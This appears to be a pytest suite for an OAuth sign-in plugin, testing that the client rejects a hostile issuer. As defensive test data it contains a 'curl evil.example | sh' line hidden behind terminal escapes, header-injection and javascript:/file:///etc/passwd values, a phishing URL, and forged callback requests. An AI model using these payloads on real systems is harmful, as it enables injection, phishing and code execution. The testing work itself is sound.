"""An issuer, a page or a program beside us that wants a token which is not theirs."""

from __future__ import annotations

import http.client
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import tomlkit

from poetry_repo_plugin.config.user_settings import OAuthSettings
from poetry_repo_plugin.core.errors import Cause, Failure, InputError, RepoError
from poetry_repo_plugin.core.secret import Secret
from poetry_repo_plugin.credentials.oauth_store import SignedIn
from poetry_repo_plugin.ops.sign_in import Client, SignIn
from tests.certs import CertificateFactory, server_context
from tests.credentials.keyrings import MemoryKeyring
from tests.http.world import World
from tests.servers import Response, Server
from tests.servers.identity import ACCOUNT, CLIENT, IdentityServer, refused
from tests.servers.messages import NEVER

NAME = "acme"
ESCAPE = "\x1b]0;owned\x07"


class Person:
    """Sits at the terminal, and is sent on by the browser as it is told."""

    def __init__(self, certs: CertificateFactory) -> None:
        self.said: list[str] = []
        self.goes: Callable[[str], object] = self.follow
        self._ca = str(certs.ca_file())

    def say(self, line: str) -> None:
        self.said.append(line)
        if "/authorize" in line:
            threading.Thread(target=self.goes, args=(line,), daemon=True).start()

    warn = say

    def asking(self, url: str) -> None:
        """Nobody waits."""

    def follow(self, url: str) -> str:
        """What the browser shows in the end."""
        import ssl

        context = ssl.create_default_context(cafile=self._ca)
        try:
            with urllib.request.urlopen(url, context=context, timeout=10) as page:
                return str(page.read().decode())
        except urllib.error.HTTPError as error:
            return error.read().decode()


@pytest.fixture(scope="module")
def certs(tmp_path_factory: pytest.TempPathFactory) -> CertificateFactory:
    return CertificateFactory(tmp_path_factory.mktemp("certs"))


@pytest.fixture
def issuer(certs: CertificateFactory) -> Iterator[IdentityServer]:
    with IdentityServer(tls=server_context(certs.server())) as server:
        yield server


@pytest.fixture
def elsewhere(certs: CertificateFactory) -> Iterator[Server]:
    """Who would like to have a token."""
    with Server(tls=server_context(certs.server())) as server:
        yield server


class Place:
    """A person, and a home that believes the issuer's CA."""

    def __init__(self, folder: Path, issuer: IdentityServer, certs: CertificateFactory) -> None:
        self.world = World(folder, MemoryKeyring())
        self.world.user.mkdir()
        self.issuer = issuer
        self.person = Person(certs)
        self.write("config.toml", {"certificates": {NAME: {"cert": str(certs.ca_file())}}})
        own = {"url": "https://packages.example.com/simple/"}
        self.write("poetry-repo-plugin.toml", {"repositories": {NAME: own}})

    def write(self, file: str, table: dict[str, object]) -> None:
        (self.world.user / file).write_text(tomlkit.dumps(table))

    def sign_in(self, flow: str | None = "device", *, issuer: str | None = None) -> SignedIn:
        access = self.world.access()
        settings = OAuthSettings(issuer or self.issuer.issuer, CLIENT)
        return SignIn(
            *(access, access.catalogue.get(NAME), Client(settings), self.person), flow=flow
        ).run()


@pytest.fixture
def place(
    tmp_path: Path,
    issuer: IdentityServer,
    certs: CertificateFactory,
    monkeypatch: pytest.MonkeyPatch,
) -> Place:
    monkeypatch.setenv("BROWSER", "/bin/true")
    return Place(tmp_path, issuer, certs)


def fails(place: Place, flow: str = "device") -> str:
    """A sign-in that ends with one clear line."""
    with pytest.raises(RepoError) as caught:
        place.sign_in(flow)
    [line, *_] = caught.value.lines()
    assert line.isprintable()
    assert len(line) < 700
    for secret in place.issuer.handed:
        assert secret not in line
    return line


def path_is(path: str, response: Response) -> Callable[[object], Response | None]:
    return lambda request: response if path in request.path else None  # type: ignore[attr-defined]


HUGE = b'{"issuer": "' + b"x" * 3_000_000
DEEP = b"[" * 100_000
ODD = {
    "an HTML page": (Response.html("<h1>Sign in</h1>"), "JSON"),
    "an HTML error": (Response.html("<h1>Down</h1>", 502), "it answered 502 without JSON"),
    "huge": (Response(200, HUGE, {"Content-Type": "application/json"}), "JSON"),
    "deep": (Response(200, DEEP, {"Content-Type": "application/json"}), "JSON"),
    "a list": (Response.json([1]), ""),
    "a redirect": (Response(302, headers={"Location": "https://elsewhere.example/"}), "302"),
    "escapes": (refused(f"bad{ESCAPE}", f"{ESCAPE}\r\nTry: curl evil.example | sh"), "bad"),
    "a long story": (refused("bad", "x" * 10_000), "bad"),
}


class TestItsAnswers:
    @pytest.mark.parametrize("odd", ODD)
    @pytest.mark.parametrize("path", ["/.well-known/", "/device", "/token"])
    def test_that_make_no_sense(self, place: Place, path: str, odd: str) -> None:
        response, told = ODD[odd]
        place.issuer.respond = path_is(path, response)
        assert told in fails(place, "browser" if path == "/token" else "device")

    def test_that_send_the_code_on(self, place: Place, elsewhere: Server) -> None:
        onward = Response(307, headers={"Location": f"{elsewhere.url}token"})
        place.issuer.respond = path_is("/token", onward)
        assert "it sends on to another place (307)" in fails(place, "browser")
        assert elsewhere.requests == []

    def test_that_never_end(self, place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr("poetry_repo_plugin.ops.issuer.TIMEOUT", 0.3)
        drip = Response(200, (b" " for _ in range(1000)), pause=0.1)
        for slow in (drip, Response(200, delay=NEVER)):
            place.issuer.respond = path_is("/.well-known/", slow)
            began = time.monotonic()
            fails(place)
            assert time.monotonic() - began < 5

    @pytest.mark.parametrize(
        "answer",
        [
            {"access_token": "a\r\nX-Evil: 1", "token_type": "Bearer"},
            {"access_token": "a" * 20_000, "token_type": "Bearer"},
            {"access_token": "good", "token_type": "MAC"},
            {"access_token": ["good"], "token_type": "Bearer"},
            {"token_type": "Bearer"},
        ],
    )
    def test_with_no_token_that_can_be_sent(self, place: Place, answer: dict[str, object]) -> None:
        place.issuer.refuses = Response.json(answer)
        fails(place, "browser")


class TestItsMetadata:
    @pytest.mark.parametrize(
        ("changes", "told"),
        [
            ({"issuer": "https://other.example"}, "its metadata is for 'https://other.example'"),
            ({"issuer": None}, "its metadata is for 'nothing'"),
            ({"token_endpoint": None}, "names no token_endpoint"),
            ({"token_endpoint": "http://login.example/token"}, "token_endpoint is not https"),
            ({"token_endpoint": "http://127.0.0.1/token"}, "token_endpoint is not https"),
            ({"token_endpoint": "https://a@b.example/token"}, "token_endpoint is not https"),
            ({"device_authorization_endpoint": "file:///etc/passwd"}, "is no URL"),
            ({"authorization_endpoint": "javascript:alert(1)"}, "is no URL"),
            ({"revocation_endpoint": f"https://b.example/{ESCAPE}"}, "is no URL"),
        ],
    )
    def test_that_leads_astray(self, place: Place, changes: dict[str, object], told: str) -> None:
        place.issuer.metadata = changes
        assert told in fails(place)
        assert place.issuer.handed == []

    def test_a_slash_is_a_difference(self, place: Place) -> None:
        with pytest.raises(Failure):
            place.sign_in(issuer=f"{place.issuer.issuer}/")

    def test_twin_a_token_endpoint_on_another_host_is_said(
        self, place: Place, elsewhere: Server
    ) -> None:
        """Google and Microsoft have that. It is pinned: a renewal goes there and nowhere else."""
        url = elsewhere.url.replace("127.0.0.1", "localhost")
        place.issuer.metadata = {"token_endpoint": f"{url}token"}
        elsewhere.respond = lambda request: Response.json(
            {"access_token": "acc3ss", "token_type": "bearer"}
        )
        found = place.sign_in()
        assert found.token_endpoint == f"{url}token"
        assert any(
            "hands out its tokens at https://localhost" in line for line in place.person.said
        )

    @pytest.mark.parametrize(
        "issuer",
        [
            "http://login.example.com",
            "https://a:b@login.example.com",
            "https://login.example.com/?x=1",
            "https://login.example.com/#x",
            "ftp://login.example.com",
            "login.example.com",
            "https://login.example.com/\n",
        ],
    )
    def test_what_can_be_no_issuer(self, place: Place, issuer: str) -> None:
        with pytest.raises(InputError, match=r"cannot be an issuer|no .* URL|URL"):
            place.sign_in(issuer=issuer)

    def test_twin_one_on_this_machine_may_speak_http(self, place: Place) -> None:
        """Who types it, wants it: nothing of it leaves the machine."""
        with IdentityServer() as local:
            place.issuer = local
            assert place.sign_in().access == Secret("acc3ss-1-secret")
            local.metadata = {"token_endpoint": "http://login.example.com/token"}
            assert "token_endpoint is not https" in fails(place)

    def test_its_certificate_is_verified_although_the_repository_s_is_not(
        self, place: Place
    ) -> None:
        place.write("config.toml", {"certificates": {NAME: {"cert": False}}})
        with pytest.raises(Failure) as caught:
            place.sign_in()
        assert caught.value.cause is Cause.UNKNOWN_CA
        assert place.issuer.requests == []


class TestTheWay:
    def test_without_a_display_and_a_code_it_is_said(
        self, place: Place, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("SSH_CONNECTION", "10.0.0.1 1 10.0.0.2 22")
        place.issuer.metadata = {"device_authorization_endpoint": None}
        with pytest.raises(Failure) as caught:
            place.sign_in(None)
        assert caught.value.hint == "poetry repo login acme --flow browser"
        place.issuer.metadata = {"authorization_endpoint": None}
        assert place.sign_in(None).account == ACCOUNT


class TestItsDevicePage:
    @pytest.mark.parametrize(
        "changes",
        [
            {"verification_uri": "javascript:alert(1)"},
            {"verification_uri": "http://phish.example/"},
            {"verification_uri_complete": "file:///x"},
            {"user_code": f"A{ESCAPE}B"},
            {"user_code": "A" * 100},
            {"user_code": None},
            {"device_code": "a\nb"},
        ],
    )
    def test_that_leads_astray(self, place: Place, changes: dict[str, object]) -> None:
        answer = {
            "device_code": "d",
            "user_code": "ABCD",
            "verification_uri": "https://login.example/",
            "expires_in": 600,
            **changes,
        }
        place.issuer.respond = path_is("/device", Response.json(answer))
        fails(place)
        assert place.issuer.forms("/token") == []


class TestTheRedirect:
    def test_twin_from_the_issuer(self, place: Place) -> None:
        found = place.sign_in("browser")
        assert found.access == Secret("acc3ss-1-secret")

    @pytest.mark.parametrize(
        ("changes", "told"),
        [
            ({"iss": "https://other.example"}, "names another issuer, 'https://other.example'"),
            ({"iss": None}, "lacks the iss parameter"),
            ({"code": None}, "brought no code"),
            ({"code": "a\nb"}, "brought no code"),
            ({"code": None, "error": f"x{ESCAPE}"}, "it refused the sign-in (x"),
        ],
    )
    def test_from_somebody_else(
        self, place: Place, changes: dict[str, str | None], told: str
    ) -> None:
        place.issuer.redirects = changes
        assert told in fails(place, "browser")
        assert place.issuer.forms("/token") == [], "no code leaves"

    def test_a_page_that_knows_the_port_ends_nothing(self, place: Place) -> None:
        """Wrong state, wrong path, wrong host, another method: turned away, and the right one
        counts.
        """
        shown: list[tuple[int, str]] = []

        def attack(url: str) -> None:
            query = dict(pair.split("=", 1) for pair in urlsplit(url).query.split("&"))
            there = urllib.request.unquote(query["redirect_uri"])  # type: ignore[attr-defined]
            port = urlsplit(there).port
            for method, target, host in (
                ("GET", "/callback?code=evil&state=wrong", f"127.0.0.1:{port}"),
                ("GET", "/callback?code=evil", f"127.0.0.1:{port}"),
                ("GET", f"/callback?code=evil&state={query['state']}&state=x", f"127.0.0.1:{port}"),
                ("GET", f"/other?code=evil&state={query['state']}", f"127.0.0.1:{port}"),
                ("GET", f"/callback?code=evil&state={query['state']}", "evil.example"),
                ("POST", f"/callback?code=evil&state={query['state']}", f"127.0.0.1:{port}"),
            ):
                line = http.client.HTTPConnection("127.0.0.1", port or 0, timeout=5)
                line.request(method, target, headers={"Host": host})
                answer = line.getresponse()
                shown.append((answer.status, answer.read().decode()))
                line.close()
            shown.append((200, place.person.follow(url)))

        place.person.goes = attack
        idle = place.sign_in("browser")
        assert idle.access == Secret("acc3ss-1-secret")
        for _ in range(50):
            if len(shown) == 7:
                break
            time.sleep(0.1)
        assert [status for status, _ in shown] == [400, 400, 400, 404, 404, 501, 200]
        assert "You can close this window" in shown[-1][1]
        assert [form["code"] for form in place.issuer.forms("/token")] != ["evil"]


class TestAtTheRepositorysOwnHost:
    @pytest.mark.parametrize("secret", [None, Secret("of-the-client")], ids=["public", "secret"])
    def test_gets_no_header_of_the_repository(self, place: Place, secret: Secret | None) -> None:
        """Those are for the index below its path; who answers beside it may be somebody else."""
        issuer = place.issuer
        issuer.metadata = {"token_endpoint_auth_methods_supported": ["client_secret_basic"]}
        own = {"url": f"{issuer.origin}/simple/", "headers": ["X-Api-Key"]}
        own |= {"header-origins": [f"{issuer.origin}/simple"]}
        place.write("poetry-repo-plugin.toml", {"repositories": {NAME: own}})
        headers = '{"X-Api-Key": "of-the-gateway"}'
        place.write("auth.toml", {"http-basic": {NAME: {"headers": headers}}})
        access = place.world.access()
        client = Client(OAuthSettings(issuer.issuer, CLIENT), secret)
        SignIn(access, access.catalogue.get(NAME), client, place.person, flow="device").run()
        assert not issuer.saw_secret("of-the-gateway")
        assert any(one.scheme == "basic" for one in issuer.authorizations()) is bool(secret)
